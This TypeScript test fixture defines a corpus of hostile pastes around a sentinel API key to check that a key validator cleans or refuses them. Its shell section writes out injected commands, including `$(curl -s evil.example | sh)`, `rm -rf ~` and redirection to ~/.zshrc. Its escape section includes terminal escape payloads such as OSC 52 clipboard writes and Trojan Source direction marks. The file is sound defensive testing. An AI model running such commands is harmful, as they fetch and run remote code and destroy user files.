// Hostile pastes, built around one valid sentinel key: shell syntax, quotes, control and
// escape sequences, text-direction marks, invisible and look-alike characters, huge pastes.
// Each entry says what the checker must answer: the key (cleaned) or a message naming the
// kind of character and where it is.
import { testKey } from "./temp-system.js";

export const HOSTILE_SECRET = "HostileSentinel";
export const KEY = testKey(HOSTILE_SECRET, "HoSt");

export interface HostileInput {
	readonly name: string;
	readonly input: string;
	/** "key": accepted as exactly KEY; a RegExp: refused with a message matching it. */
	readonly expect: "key" | RegExp;
}

const at = (index: number, piece: string, key = KEY) => key.slice(0, index) + piece + key.slice(index);
const position = (what: string, where: number) =>
	new RegExp(`^The key has ${what} at character ${where} of \\d+\\.$`);
const MEGABYTE = 1 << 20;
const ESC = "\x1b";

const shell: HostileInput[] = [
	{
		name: "$(…) after the key",
		input: `${KEY}$(curl -s evil.example | sh)`,
		expect: position("a shell character \\(\\$\\)", 109),
	},
	{
		name: "$(…) before the key",
		input: `$(rm -rf ~)${KEY}`,
		expect: /shell character \(\$\) at character 1 of/,
	},
	{
		name: "$(…) inside the key",
		input: at(40, "$(id)"),
		expect: position("a shell character \\(\\$\\)", 41),
	},
	{
		name: "a parameter expansion inside",
		input: at(30, "$" + "{HOME}"),
		expect: position("a shell character \\(\\$\\)", 31),
	},
	{ name: "backticks around the key", input: `\`${KEY}\``, expect: "key" },
	{
		name: "a backtick command inside",
		input: at(50, "`id`"),
		expect: position("a backtick \\(a shell character\\)", 51),
	},
	{ name: "single quotes around", input: `'${KEY}'`, expect: "key" },
	{ name: "double quotes around", input: `"${KEY}"`, expect: "key" },
	{ name: "a quote breaking out", input: `${KEY}'; rm -rf ~; echo '`, expect: position("a quote", 109) },
	{ name: "a quote inside", input: at(60, "'"), expect: position("a quote", 61) },
	{ name: "a trailing ;", input: `${KEY};`, expect: "key" },
	{ name: "; and a command", input: `${KEY}; rm -rf ~`, expect: position("a shell character \\(;\\)", 109) },
	{ name: "a leading ;", input: `;${KEY}`, expect: position("a shell character \\(;\\)", 1) },
	{ name: "a pipe", input: `${KEY}|sh`, expect: position("a shell character \\(\\|\\)", 109) },
	{ name: "&& and a command", input: `${KEY}&&reboot`, expect: position("a shell character \\(&\\)", 109) },
	{ name: "a redirection", input: `${KEY}>~/.zshrc`, expect: position("a shell character \\(>\\)", 109) },
	{ name: "a glob", input: at(20, "*"), expect: position("a shell character \\(\\*\\)", 21) },
	{ name: "a backslash", input: at(20, "\\"), expect: position("a shell character \\(\\\\\\)", 21) },
	{ name: "a # comment", input: `${KEY}#x`, expect: position("a shell character \\(#\\)", 109) },
	{ name: "an = sign", input: at(20, "="), expect: position('a "=" character', 21) },
];

const lines: HostileInput[] = [
	{ name: "a final newline", input: `${KEY}\n`, expect: "key" },
	{ name: "CRLF around", input: `\r\n${KEY}\r\n`, expect: "key" },
	{ name: "a newline then a command", input: `${KEY}\nrm -rf ~`, expect: position("a space", 111) },
	{ name: "a line break inside (wrapped copy)", input: at(54, "\n"), expect: "key" },
	{ name: "a line separator U+2028 inside", input: at(54, "\u2028"), expect: "key" },
	{ name: "a vertical tab inside", input: at(54, "\v"), expect: position("an unusual space", 55) },
	{ name: "a form feed inside", input: at(54, "\f"), expect: position("an unusual space", 55) },
];

const control: HostileInput[] = [
	{ name: "NUL after", input: `${KEY}\0`, expect: position("a control character", 109) },
	{ name: "NUL before", input: `\0${KEY}`, expect: position("a control character", 1) },
	{ name: "NUL inside", input: at(70, "\0"), expect: position("a control character", 71) },
	{ name: "a bell", input: at(70, "\x07"), expect: position("a control character", 71) },
	{ name: "DEL", input: at(70, "\x7f"), expect: position("a control character", 71) },
	{ name: "a C1 control (CSI 0x9b)", input: at(70, "\x9b31m"), expect: position("a control character", 71) },
];

const escapes: HostileInput[] = [
	{ name: "colours around", input: `${ESC}[31m${KEY}${ESC}[0m`, expect: "key" },
	{ name: "a colour inside", input: at(30, `${ESC}[1;32m`), expect: "key" },
	{ name: "cursor moves", input: `${ESC}[2A${KEY}${ESC}[10D${ESC}[K`, expect: "key" },
	{ name: "OSC 52 clipboard write", input: `${ESC}]52;c;ZWNobyBwd25lZA==\x07${KEY}`, expect: "key" },
	{ name: "OSC 52 with ST", input: `${KEY}${ESC}]52;c;ZWNobyBwd25lZA==${ESC}\\`, expect: "key" },
	{
		name: "an OSC 8 hyperlink",
		input: `${ESC}]8;;https://evil.example\x07${KEY}${ESC}]8;;\x07`,
		expect: "key",
	},
	{ name: "a title change", input: `${ESC}]0;pwned\x07${KEY}`, expect: "key" },
	{ name: "bracketed paste", input: `${ESC}[200~${KEY}${ESC}[201~`, expect: "key" },
	{ name: "bracketed paste markers without ESC", input: `[200~${KEY}[201~`, expect: "key" },
	{
		name: "a nested bracketed paste",
		input: `${ESC}[200~${ESC}[200~${KEY}${ESC}[201~${ESC}[201~`,
		expect: "key",
	},
	{ name: "a lone ESC inside", input: at(30, ESC), expect: position("a control character", 31) },
	{
		name: "a DCS string",
		input: `${ESC}Pq#0;2;0;0;0${ESC}\\${KEY}`,
		expect: /^The key has a shell character \(#\) at character \d+ of \d+\.$/,
	},
	{ name: "an unterminated OSC", input: `${KEY}${ESC}]52;c;AAAA`, expect: "key" },
];

const bidi: HostileInput[] = [
	["RLM", "\u200F"],
	["LRM", "\u200E"],
	["RLO (Trojan Source)", "\u202E"],
	["LRE", "\u202A"],
	["PDF", "\u202C"],
	["RLI", "\u2067"],
	["PDI", "\u2069"],
	["ALM (Arabic letter mark)", "\u061C"],
].map(([name, mark]) => ({
	name: `${name} inside`,
	input: at(40, mark ?? ""),
	expect: position("an invisible text-direction mark", 41),
}));

const invisible: HostileInput[] = [
	{
		name: "a zero-width space inside",
		input: at(40, "\u200B"),
		expect: position("an invisible (text-direction mark|character)", 41),
	},
	{
		name: "a zero-width joiner inside",
		input: at(40, "\u200D"),
		expect: position("an invisible character", 41),
	},
	{
		name: "a zero-width non-joiner inside",
		input: at(40, "\u200C"),
		expect: position("an invisible character", 41),
	},
	{ name: "a word joiner inside", input: at(40, "\u2060"), expect: position("an invisible character", 41) },
	{ name: "a BOM inside", input: at(40, "\uFEFF"), expect: position("an invisible character", 41) },
	{ name: "a soft hyphen inside", input: at(40, "\u00AD"), expect: position("an invisible character", 41) },
	{ name: "zero-width spaces around", input: `\u200B${KEY}\u200B`, expect: "key" },
	{ name: "a BOM before", input: `\uFEFF${KEY}`, expect: "key" },
	{ name: "a no-break space inside", input: at(40, "\u00A0"), expect: position("an unusual space", 41) },
];

const lookAlikes: HostileInput[] = [
	["Cyrillic а in the prefix", "а", KEY.indexOf("a")],
	["Cyrillic е", "е", KEY.indexOf("e", 13)],
	["Cyrillic о", "о", KEY.indexOf("o", 13)],
	["Greek ο", "ο", KEY.indexOf("o", 13)],
	["Cyrillic Ѕ", "Ѕ", KEY.indexOf("S", 13)],
].map(([name, glyph, index]) => ({
	name: `${name} in an otherwise valid key`,
	input: KEY.slice(0, Number(index)) + String(glyph) + KEY.slice(Number(index) + 1),
	expect: position("a non-ASCII look-alike letter", Number(index) + 1),
}));

const fullWidth: HostileInput[] = [
	{
		name: "a full-width key",
		input: toFullWidth(KEY),
		expect: /non-ASCII look-alike letter at character 1 of 108/,
	},
	{
		name: "a full-width letter inside",
		input: KEY.replace("HoSt", "ＨoSt"),
		expect: position("a non-ASCII look-alike letter", 105),
	},
	{
		name: "a full-width digit inside",
		input: KEY.replace("api03", "api０3"),
		expect: position("a non-ASCII digit", 11),
	},
	{
		name: "a full-width hyphen",
		input: KEY.replace("api03-", "api03－"),
		expect: position("a long dash or minus sign", 13),
	},
	{ name: "an ideographic space inside", input: at(40, "\u3000"), expect: position("an unusual space", 41) },
	{ name: "an en dash for the hyphen", input: KEY.replace("sk-", "sk–"), expect: /./ },
];

const huge: HostileInput[] = [
	{ name: "1 MB of x", input: "x".repeat(MEGABYTE), expect: /doesn't look like an Anthropic key/ },
	{ name: "the key then 1 MB of letters", input: KEY + "a".repeat(MEGABYTE), expect: /Too long/ },
	{
		name: "the key repeated to 1 MB",
		input: KEY.repeat(Math.ceil(MEGABYTE / KEY.length)),
		expect: /two keys/,
	},
	{ name: "1 MB of escape codes and the key", input: `${ESC}[0m`.repeat(MEGABYTE / 4) + KEY, expect: "key" },
	{
		name: "1 MB of spaces around the key",
		input: `${" ".repeat(MEGABYTE / 2)}${KEY}${" ".repeat(MEGABYTE / 2)}`,
		expect: "key",
	},
	{
		name: "1 MB of $(",
		input: "$(".repeat(MEGABYTE / 2),
		expect: /shell character \(\$\) at character 1 of/,
	},
	{ name: "1 MB of newlines and the key", input: `${"\n".repeat(MEGABYTE)}${KEY}`, expect: "key" },
	{ name: "1 MB of emoji", input: "😀".repeat(MEGABYTE / 2), expect: /an emoji at character 1 of/ },
];

function toFullWidth(text: string): string {
	return [...text]
		.map((c) => (c >= "!" && c <= "~" ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c))
		.join("");
}

export const CORPUS: readonly HostileInput[] = [
	...shell,
	...lines,
	...control,
	...escapes,
	...bidi,
	...invisible,
	...lookAlikes,
	...fullWidth,
	...huge,
];

/** Characters a message must never carry: controls, escapes, direction marks, invisible ones. */
export const UNSAFE_IN_MESSAGE = /[\p{Cc}\p{Cf}\u2028\u2029]/u;
